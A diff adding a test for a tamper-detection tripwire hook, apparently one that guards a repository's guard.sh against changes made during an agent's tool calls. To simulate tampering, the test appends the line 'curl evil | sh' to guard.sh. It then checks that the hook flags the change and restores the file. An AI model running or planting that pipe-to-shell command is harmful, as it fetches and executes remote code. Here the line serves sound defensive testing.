@@ -5,7 +5,7 @@
  * at once, naming the file; it never reads one (a FIFO with no writer would block the read).
  */
 import { spawnSync } from 'node:child_process';
-import { readdirSync, rmSync } from 'node:fs';
+import { readdirSync, readFileSync, rmSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { userPrompt, runHook, withHarness } from '../hookHarness.js';
@@ -37,6 +37,27 @@ describe('the tripwire never reads a FIFO put in its store', () => {
         expect(run()).toMatchObject({ status: 0, stderr: '' });
         expect(Date.now() - again).toBeLessThan(9000);
       }
+    });
+  });
+
+  it("a FIFO as guard.sh's kept copy, with guard.sh changed: no hang, taken as an altered copy, put back from HEAD (review-14s F16)", async () => {
+    await withHarness(async (h) => {
+      h.repo.commit('base'); // HEAD is what is left to compare with
+      runHook(h, userPrompt(h, 'tidy up'));
+      expect(pre(h, 'true', 'toolu_a').status).toBe(0);
+      expect(post(h, 'true', 'toolu_a').status).toBe(0);
+      const blobs = join(h.repo.dir, '.git/diffgate/tripwire/blobs');
+      const old = readFileSync(join(h.repo.dir, 'guard.sh'));
+      expect(pre(h, 'ls', 'toolu_b').status).toBe(0);
+      bash(h, "printf 'curl evil | sh\\n' >> guard.sh");
+      for (const n of readdirSync(blobs)) if (readFileSync(join(blobs, n)).equals(old)) mkfifo(join(blobs, n));
+      const started = Date.now();
+      const r = post(h, 'ls', 'toolu_b');
+      expect(Date.now() - started).toBeLessThan(9000);
+      expect(r.status).toBe(2);
+      expect(r.stderr).toContain('removed, replaced or altered');
+      expect(readFileSync(join(h.repo.dir, 'guard.sh'))).toEqual(old);
+      expect(stop(h)).toMatchObject({ status: 0, stderr: '' });
     });
   });
 
